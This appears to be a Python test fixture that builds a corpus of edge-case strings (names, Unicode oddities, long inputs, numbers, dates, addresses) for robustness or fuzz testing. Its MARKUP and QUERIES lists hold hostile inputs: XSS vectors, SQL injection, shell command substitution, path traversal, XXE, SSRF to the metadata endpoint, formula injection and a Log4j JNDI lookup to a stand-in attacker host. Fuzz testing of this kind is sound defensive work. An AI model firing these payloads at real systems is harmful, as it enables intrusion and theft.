"""A corpus of strings that have broken something somewhere: every one may come as any text. All of them can be
written as UTF-8; what cannot is among the bodies of `api_reads`."""

NAMES = [
    "山田 太郎", "欧阳娜娜", "𠮷野家", "髙橋", "㐂", "龘", "김민준", "남궁민수", "Ng", "O",
    "Nguyễn Thị Hương", "O'Brien", "d'Angelo", "Müller-Lüdenscheidt", "José María de la Cruz", "Þór",
    "Łukasz", "İpek", "مُحَمَّد", "Null", "None", "True", "undefined", "NaN", '"Inc."', "(株)山田商事",
    "株式会社ﾔﾏﾀﾞ", "有限公司（上海）", "㈜한국", "1-2-3 Co.", "A/S", "C++ GmbH", "AT&T", "<3 Foods", "Test",
    "0", "-0", "1e5", "00", "Robert'); DROP TABLE people;--",
]  # fmt: skip
UNICODE = [
    "e\u0301", "é", "\u1112\u1161\u11ab", "한", "か\u3099", "👨‍👩‍👧‍👦", "🇨🇳🇯🇵", "👍🏽", "Z\u0351" * 100,
    "a" + "\u0301" * 500, "\u202egnp.exe", "\u2066a\u2069", "\u200f", "\u061c", "\u200b", "\u200c", "\ufeff",
    "\u00ad", "\u2060", "\u3164", "\u115f", "\u2800", "\U000e0041", "\U000e0001", "\ue000", "\U0010fffd",
    "\ufffe", "\uffff", "\U0001ffff", "\ufdd0", "a\u2028b", "a\u2029b", "a\u0085b", "\u00a0", "\u1680",
    "\u2003", "\u3000", "\u205f", "\u180e", "\u0430pple", "ＡＢＣ", "ß", "SS", "ı", "İ", "ﬁ", "Ⅷ", "①", "½",
    "ｶﾞ", "葛\U000e0100", "⿰亻山", "﷽", "ꙮ", "𒐫", "\u0600", "\u06dd", "\u0e33" * 200, "நி", "\u1cd0",
    "\u0338", "\u20dd", "x\u0489" * 50, "\ufff9a\ufffab\ufffb", "\ufffc", "\ufffd",
]  # fmt: skip
SHAPES = [
    "", " ", "\t", "\n", "\r", "\r\n", " a ", "\ta", "a\t", "a\nb", "a\rb", "a\r\nb", "\n" * 1000, " " * 5000,
    "a" * 79, "a" * 80, "a" * 81, "a" * 100, "a" * 101, "a" * 160, "a" * 161, "a" * 255, "a" * 256, "a" * 500,
    "a" * 501, "a" * 1000, "a" * 1001, "a" * 2000, "a" * 2001, "a" * 4000, "a" * 4001, "a" * 65_536,
    "長" * 80, "長" * 160, "長" * 4000, "𠮷" * 4001, "a " * 2000, "\u0000", "a\u0000", "\u0000a", "a\u0000b",
    "\u0001", "\u0008", "\u000b", "\u000c", "\u001b[31m", "\u001f", "\u007f", "\u0080", "\u009f", "a\u001cb",
    "\\", "\\\\", "\\0", "\\x00", "\\u0000", "\\ud800", "%00", "%0a%0d", "%c0%af", "%u0000", "%25%30%30", "+",
    "%20", "&#0;", "&#xd800;", "&nbsp;", "a\u0000" * 100,
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "\"><svg onload=alert(1)>",
    "' autofocus onfocus=alert(1) '", "javascript:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "<math><mi//xlink:href>", "<iframe srcdoc='<script>'>",
    "<a href=//evil.example>", "<!--", "-->", "]]>", "<![CDATA[", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&lt;script&gt;",
    "<style>*{display:none}</style>", "expression(alert(1))", "{{7*1411107}}", "${7*1411107}", "#{7*1411107}",
    "<%= 7*1411107 %>",
    "{% for x in y %}", "{{ config }}", "{{''.__class__}}", "{0.__class__}", "{}", "{name}", "%(x)s",
    "%s%s%s%s", "%n", "%d", "%", "%%", "%(", "$name", "$$", "`id`", "$(id)", "; id", "| id", "&& id",
    "../../etc/passwd", "..\\..\\x", "/etc/passwd\u0000.png", "C:\\nul", "CON", "file:///etc/passwd",
    "http://169.254.169.254/", "http://[::1]/", "gopher://x", "//evil.example", "hx-get=/admin",
    "' hx-on:click='alert(1)",
]  # fmt: skip
QUERIES = [
    "' OR 1=1 --", "\" OR \"\"=\"", "'; SELECT pg_sleep(9);--", "1;DROP TABLE x", "') UNION SELECT 1,2--",
    "%' AND '1'='1", "_", "\\%", "*", "?", "[a-z", "(", "a{1,99999}", "(a+)+$" + "a" * 40, "^", "$", ".*",
    "\\p{L}", "*)(uid=*", "$ne", '{"$gt": ""}', "[]", "null", "true", "=1+1", "=cmd|' /C calc'!A0", "+1",
    "-1", "@SUM(A1)", "＝1+1", "\t=1", "BEGIN:VCALENDAR", "a\r\nATTENDEE:x", "a\nBcc: b@evil.example",
    "Subject: x\r\n\r\nbody", "a;b,c:d\\n", "\x1b]0;x\x07", "[2026-03-02 01:00:00] ERROR forged",
    "a\nERROR forged line", "${jndi:ldap://evil.example/a}",
]  # fmt: skip
NUMBERS = [
    "-1", "0.0", "0.001", "1,000", "1.000,00", "1 000", "１２３", "壱百万", "百万", "¥100", "$5", "€1",
    "₩1000", "CNY 5", "Infinity", "-Infinity", "0x10", "1_000", "٣", "1" + "0" * 400, "9" * 5000, "1e999",
    "1e-999", "9007199254740993", "9223372036854775808", "0.1e1", "--1", "1.", ".5", "+5", "½", "²", "Ⅷ",
    "1\u00a0000", "−5",
]  # fmt: skip
DATES = [
    "2026-02-30", "2027-02-29", "0000-01-01", "9999-12-31", "10000-01-01", "2026-W01-1", "2026-001",
    "令和8年", "民國115年", "2026/12/3", "3.12.2026", "12/03/26", "２０２６-０３-１０",
    "2026-03-10T25:00:00Z", "2026-03-10T00:00:00+99:99", "2026-03-10T23:59:60Z", "now", "tomorrow", "Asia",
    "posix/UTC", "leapseconds", "Etc/GMT+8", "asia/shanghai", "EST", "../../etc/localtime", "UTC+8",
    "A" * 5000 + "/B",
]  # fmt: skip
ADDRESSES = [
    "a@b", "@", "a@@b.example", "a b@c.example", "a@b.example,c@d.example", "A <a@b.example>",
    '"a b"@c.example', "a@[127.0.0.1]", "a@localhost", "田中@例え.jp", "a@xn--r8jz45g.jp", "\u0430@b.example",
    "a" * 65 + "@b.example", "a@" + "b" * 64 + ".example", "a@b.example\n", "a@b..example", ".a@b.example",
    "a@b.example.", "a\u200b@b.example", "01m80v018a72rxk5q3pqhbf0jv", "01M80V018A72RXK5Q3PQHBF0JV",
    "8" + "z" * 25, "0" * 26, "{01m80v018a72rxk5q3pqhbf0jv}", "550e8400-e29b-41d4-a716-446655440000",
    "+86 139 0000 0000", "110", "tel:+81", "__proto__", "constructor", "toString", "hasOwnProperty", "id",
    "source", "zh",
]  # fmt: skip
STRINGS = list(dict.fromkeys([*NAMES, *UNICODE, *SHAPES, *MARKUP, *QUERIES, *NUMBERS, *DATES, *ADDRESSES]))
